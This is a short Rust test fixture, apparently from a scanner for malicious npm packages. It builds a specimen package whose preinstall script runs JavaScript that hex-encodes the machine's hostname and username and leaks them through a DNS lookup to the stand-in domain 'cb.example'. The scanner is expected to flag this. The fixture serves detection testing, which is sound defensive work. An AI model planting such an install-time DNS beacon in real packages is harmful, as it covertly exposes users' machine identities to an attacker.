//! The same by the name service alone: host and user as labels of one name.
//!
//! Must be found.

use crate::{Expect, NpmPackage, Specimen, build::Package as _};

const INDEX_JS: &str = r"const dns = require('dns');
const os = require('os');
const hex = (text) => Buffer.from(text).toString('hex');
dns.resolve4(`${hex(os.hostname()).slice(0, 62)}.${hex(os.userInfo().username)}.cb.example`, () => {});
";

pub(super) fn specimen() -> Specimen {
    let package = NpmPackage::new("acme-build-utils", "99.0.0")
        .file("index.js", INDEX_JS)
        .script("preinstall", "node index.js");
    package.specimen(
        "npm-beacon-by-dns",
        Expect::suspicious(&["host-identity-sent"]),
    )
}
